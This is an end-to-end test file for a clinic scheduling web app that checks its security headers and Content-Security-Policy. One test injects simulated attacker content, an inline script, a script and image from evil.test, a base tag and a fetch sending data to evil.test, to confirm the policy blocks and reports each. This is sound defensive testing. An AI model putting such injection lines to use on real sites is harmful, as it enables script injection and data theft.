import { openClinic } from '../commands/clinic.ts';
import { dayOfCalmWeek } from '../commands/dates.ts';
import { collectViolations } from '../commands/policy-violations.ts';
import { createGroup, createPatient, createSession, fillGroup } from '../commands/records.ts';
import { signInAs } from '../commands/sign-in.ts';
import { expect, test } from '../commands/test.ts';
import { Shell } from '../pages/shell.ts';

test('every answer carries the security headers, and the page itself its policy', async ({ page, request }) => {
  const response = await page.goto('/o/anywhere/pm/groups');
  const headers = response?.headers() ?? {};
  const policy = headers['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'self'; script-src 'self';");
  expect(policy).toContain("frame-ancestors 'none'");
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'referrer-policy': 'same-origin',
    'cross-origin-opener-policy': 'same-origin',
    'cache-control': 'no-cache',
  });
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', policy.replace("; frame-ancestors 'none'", ''));

  const script = (await page.locator('script[type="module"]').first().getAttribute('src')) ?? '';
  const asset = await request.get(script);
  expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(asset.headers()['x-content-type-options']).toBe('nosniff');
});

test('the app works under its policy: nothing is stopped on any main page', async ({ page }) => {
  const violations = await collectViolations(page);
  const shell = new Shell(page);
  const clinic = await openClinic();
  const groupId = await createGroup(clinic, { name: 'Anger Management', max_capacity: 2 });
  await fillGroup(clinic, groupId, 3);
  const patientId = await createPatient(clinic, 'Ines', 'Moreau');
  const date = dayOfCalmWeek(clinic.timezone, 2);
  await createSession(clinic, {
    ...{ group_definition_id: groupId, session_date: date, start_time: '09:00', end_time: '10:00' },
  });

  await page.goto('/sign-in');
  await expect(shell.heading).toHaveText('Sign in');
  await page.goto('/sign-up');
  await expect(shell.heading).toBeVisible();
  await signInAs(page, clinic, 'org_admin');
  const pages: [path: string, shows: string | RegExp][] = [
    ['', 'Anger Management'],
    [`pm/schedule?view=month&date=${date}`, 'Anger Management'],
    [`pm/schedule?view=week&date=${date}&dialog=new`, 'Schedule session'],
    [`pm/schedule?view=people&date=${date}`, '1 session'],
    [`pm/schedule/print?date=${date}`, 'Anger Management'],
    ['pm/groups', '2 of 2 seats, 1 waiting'],
    [`pm/groups/${groupId}/enrollments`, 'Seated Person 3'],
    ['pm/patients', 'Ines Moreau'],
    [`pm/patients/${patientId}`, 'In no group yet'],
    ['settings/permissions', /Facilitator/],
    ['settings/members', 'Stella Staff'],
    ['settings/organization', 'Locations to choose from'],
    ['settings/audit-log', 'Anger Management'],
    ['settings/recently-deleted', 'Nothing is deleted'],
    ['settings/integrity', 'Check again'],
  ];
  for (const [path, shows] of pages) {
    await test.step(path.split('?')[0]?.replace(/[0-9a-f-]{36}/, ':id') || 'home', async () => {
      await shell.open(clinic, path);
      await expect(page.getByText(shows).first()).toBeVisible();
      await page.evaluate(() => document.fonts.ready);
    });
  }
  expect(violations).toEqual([]);
});

test('what an attacker would put into the page is stopped, and reported: the test above can fail', async ({ page }) => {
  const violations = await collectViolations(page);
  await page.goto('/sign-in');
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.taken = true';
    document.body.append(inline);
    const elsewhere = document.createElement('script');
    elsewhere.src = 'https://evil.test/x.js';
    document.body.append(elsewhere);
    const image = document.createElement('img');
    image.src = 'https://evil.test/x.png';
    document.body.append(image);
    const base = document.createElement('base');
    base.href = 'https://evil.test/';
    document.head.append(base);
    return fetch('https://evil.test/?data=x').catch(() => undefined);
  });
  await expect.poll(() => violations.join('\n')).toMatch(/script-src-elem stopped inline/);
  const reported = violations.join('\n');
  expect(reported).toMatch(/script-src-elem stopped https:\/\/evil\.test\/x\.js/);
  expect(reported).toMatch(/img-src stopped/);
  expect(reported).toMatch(/connect-src stopped/);
  expect(reported).toMatch(/base-uri stopped/);
  expect(await page.evaluate(() => 'taken' in window)).toBe(false);
});
